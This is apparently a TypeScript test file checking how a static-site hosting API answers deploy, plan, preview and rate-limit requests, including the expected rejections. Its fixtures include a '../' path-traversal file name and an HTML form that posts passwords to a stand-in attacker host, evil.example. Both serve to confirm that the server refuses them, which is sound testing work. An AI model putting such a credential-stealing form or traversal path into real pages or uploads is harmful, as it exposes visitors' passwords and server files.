/** BEYOND 13: what the API answers to uploads is what its description says, with no member more or less. Each call is asked
 *  with success, and with most of what refuses it. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { solve } from "../../src/client/challenge.ts";
import { deltaOf, DELTA, planned, rawDelta } from "../kit/delta.ts";
import { bearer, type Person, signUp } from "../kit/people.ts";
import { type DeployResult, NOBODYS_ID, startServer, ZIP } from "../kit/server.ts";
import { zipOf } from "../kit/zip.ts";
import { HeldServer, type Sent, startHeld } from "./held.ts";

const PAGE = { "index.html": "<!doctype html><title>One</title><img src=logo.png>" };
const page = (text: string) => zipOf({ "index.html": `<!doctype html><title>${text}</title>${text}` });

let held: HeldServer;
let ann: Person;
let bob: Person;
let site: DeployResult;
let own: DeployResult;
const M = () => bearer(site.manage_token);
const at = (path: string, { site_id } = site) => `/sites/${site_id}${path}`;

beforeAll(async () => {
  held = await startHeld("--max-files", "3", "--max-zip-bytes", "4096", "--max-bytes", "20000");
  [ann, bob] = [await signUp(held.server), await signUp(held.server)];
  site = (await held.ask("POST", "/sites", 200, { body: zipOf(PAGE), headers: ZIP })).body;
  own = (await held.ask("POST", "/sites", 200, { body: page("own"), headers: { ...ZIP, ...ann.bearer } })).body;
});
afterAll(() => held.server[Symbol.asyncDispose]());

describe("CONTRACT 4: deploys", () => {
  test("of an owned site, with a session and with a manage_token, by what was healed and warned of", async () => {
    const headers = { ...ZIP, ...ann.bearer };
    await held.ask("POST", at("/deploys", own), 200, { body: page("two"), headers });
    const files = { "site/Index.html": "<title>x</title><a href='gone.html'>x</a>", "site/a.md": "# x" };
    await held.ask("POST", at("/deploys?spa=on"), 200, { body: zipOf(files), headers: { ...ZIP, ...M() } });
    await held.ask("POST", at("/deploys?spa=auto"), 200, { body: zipOf(PAGE), headers: { ...ZIP, ...M() } });
  });

  test("dry runs", async () => {
    await held.ask("POST", "/sites?dry_run=1", 200, { body: zipOf(PAGE), headers: ZIP });
    await held.ask("POST", at("/deploys?dry_run=1&spa=off"), 200, { body: page("dry"), headers: { ...ZIP, ...M() } });
  });

  const many = Object.fromEntries(Array.from({ length: 4 }, (_, n) => [`${n}.html`, "x"]));
  const steals = "<form action='https://evil.example/in'><input type=password name=p></form>";
  test.each<[string, string, number, string, Uint8Array<ArrayBuffer>, Record<string, string>]>([
    ["no zip", "", 400, "invalid_zip", new Uint8Array([1, 2, 3]), ZIP],
    ["nothing in it", "", 400, "empty_deploy", zipOf({ ".DS_Store": "x" }), ZIP],
    ["a way out", "", 400, "unsafe_path", zipOf({ "../x.html": "x" }), ZIP],
    ["too many files", "", 413, "too_many_files", zipOf(many), ZIP],
    ["too large when unpacked", "", 413, "deploy_too_large", zipOf({ "a.txt": "x".repeat(20_001) }), ZIP],
    ["too large", "", 413, "zip_too_large", new Uint8Array(5000), ZIP],
    ["another type", "", 415, "unsupported_media_type", page("x"), { "content-type": "text/plain" }],
    ["a parameter of another value", "?spa=maybe", 400, "invalid_input", page("x"), ZIP],
    ["a short key", "", 400, "invalid_input", page("x"), { ...ZIP, "idempotency-key": "short" }],
    ["a credential that is none", "", 401, "unauthorized", page("x"), { ...ZIP, ...bearer("svc_session_none") }],
    ["a foreign page", "", 403, "cross_origin", page("x"), { ...ZIP, origin: "http://evil.example" }],
    ["a form that sends passwords away", "", 403, "abuse_rejected", zipOf({ "index.html": steals }), ZIP],
  ])("POST /sites with %s", async (_, query, status, code, body, headers) => {
    await held.ask("POST", `/sites${query}`, status, { body, headers, code });
  });

  test("an Idempotency-Key that another deploy had", async () => {
    const headers = { ...ZIP, "idempotency-key": "k".repeat(22) };
    await held.ask("POST", "/sites", 200, { body: page("one"), headers });
    await held.ask("POST", "/sites", 409, { body: page("two"), headers, code: "idempotency_conflict" });
  });

  test("of a site that is frozen, disabled, gone, another's", async () => {
    const deploy = { body: page("x"), headers: { ...ZIP, ...M() } };
    held.server.freeze(site);
    await held.ask("POST", at("/deploys"), 403, { ...deploy, code: "site_frozen" });
    held.server.disable(site, "phishing");
    await held.ask("POST", at("/deploys"), 451, { ...deploy, code: "site_disabled" });
    held.server.enable(site);
    site = (await held.ask("POST", "/sites", 200, { body: zipOf(PAGE), headers: ZIP })).body;
    await held.ask("POST", at("/deploys", own), 403, {
      ...deploy,
      headers: { ...ZIP, ...bob.bearer },
      code: "forbidden",
    });
    await held.ask("POST", `/sites/${NOBODYS_ID}/deploys`, 404, { ...deploy, headers: { ...ZIP, ...bob.bearer } });
  });
});

describe("BEYOND 6: plans and deltas", () => {
  test("what a content would be, what of it is missing, and the rest sent", async () => {
    const files = { ...PAGE, "two.html": "<!doctype html><title>Two</title>" };
    const plan = { body: planned(files), headers: M() };
    const { need } = (await held.ask("POST", at("/plan"), 200, plan)).body;
    const headers = { ...DELTA, ...M() };
    await held.ask("POST", at("/deploys"), 409, { body: deltaOf(files, []), headers, code: "missing_blobs" });
    await held.ask("POST", at("/deploys"), 400, { body: rawDelta("[", []), headers, code: "invalid_delta" });
    await held.ask("POST", at("/deploys"), 200, { body: deltaOf(files, need), headers });
    await held.ask("POST", "/sites", 415, { body: deltaOf(files, need), headers: DELTA });
  });

  const file = { path: "a.html", sha256: "0".repeat(64), bytes: 1 };
  test.each<[number, string, Sent["body"]]>([
    [400, "invalid_json", "["],
    [400, "invalid_input", { files: [{ ...file, sha256: "x" }] }],
    [400, "unsafe_path", { files: [{ ...file, path: "../a.html" }] }],
    [400, "empty_deploy", { files: [] }],
    [400, "invalid_zip", { files: [file, { ...file, path: "a.html/b.html" }] }],
    [413, "too_many_files", { files: ["a", "b", "c", "d"].map((path) => ({ ...file, path })) }],
    [413, "deploy_too_large", { files: [{ ...file, bytes: 20_001 }] }],
    [413, "body_too_large", "x".repeat(70_000)],
  ])("POST /sites/:id/plan: %i %s", async (status, code, body) => {
    await held.ask("POST", at("/plan"), status, { body: body!, headers: M(), code });
  });
});

describe("BEYOND 7: previews", () => {
  test("made with a name and without, listed, promoted and ended", async () => {
    const headers = { ...ZIP, ...ann.bearer };
    const path = at("/previews", own);
    const made = (await held.ask("POST", `${path}?name=pr-7`, 200, { body: page("seven"), headers })).body;
    expect([made.name, made.changed]).toEqual(["pr-7", true]);
    const { version_id } = (await held.ask("POST", path, 200, { body: page("eight"), headers })).body;
    await held.ask("POST", `${path}?name=pr-7&dry_run=1`, 200, { body: page("nine"), headers });
    await held.ask("POST", `${path}?name=PR`, 400, { body: page("x"), headers, code: "invalid_input" });
    await held.ask("POST", path, 400, { body: new Uint8Array([1]), headers, code: "invalid_zip" });
    expect((await held.ask("GET", path, 200, { headers: ann.bearer })).body.previews).toHaveLength(2);
    await held.ask("DELETE", `${path}/pr-7`, 401, { headers: bearer(own.manage_token), code: "unauthorized" });
    await held.ask("DELETE", `${path}/pr-7`, 200, { headers: ann.bearer });
    await held.ask("DELETE", `${path}/pr-7`, 404, { headers: ann.bearer, code: "unknown_version" });
    await held.ask("POST", `${path}/${version_id}/promote`, 200, { headers: ann.bearer });
    await held.ask("POST", `${path}/pr-7/promote`, 404, { headers: ann.bearer, code: "unknown_version" });
    const frozen: DeployResult = (await held.ask("POST", "/sites", 200, { body: page("x"), headers })).body;
    held.server.freeze(frozen);
    await held.ask("POST", at("/previews/x/promote", frozen), 403, { headers: ann.bearer, code: "site_frozen" });
  });
});

describe("on servers of other settings", () => {
  test("CONTRACT 10: a proof of work is asked for, and taken", async () => {
    await using server = await startServer({ SVC_CHALLENGE: "pow" });
    const proving = new HeldServer(server, held.contract);
    await held.ask("POST", "/challenge", 200);
    const { body } = await proving.ask("POST", "/challenge", 200);
    await proving.ask("POST", "/sites", 403, { body: page("x"), headers: ZIP, code: "challenge_failed" });
    await proving.ask("POST", "/sites", 200, {
      body: page("x"),
      headers: { ...ZIP, "svc-challenge": await solve(body) },
    });
  });

  test("CONTRACT 4.4: past a limit", async () => {
    await using server = await startServer({ SVC_RATE_DEPLOY: "1/1h", SVC_QUOTA_ADDRESS: "1k" });
    const limited = new HeldServer(server, held.contract);
    const large = zipOf({ "index.html": crypto.getRandomValues(new Uint8Array(3000)) });
    await limited.ask("POST", "/sites", 403, { body: large, headers: ZIP, code: "quota_exceeded" });
    await limited.ask("POST", "/sites", 429, { body: page("x"), headers: ZIP, code: "rate_limited" });
  });
});

test("every call was asked with success", () => {
  expect(held.unasked("Deploys")).toEqual([]);
});
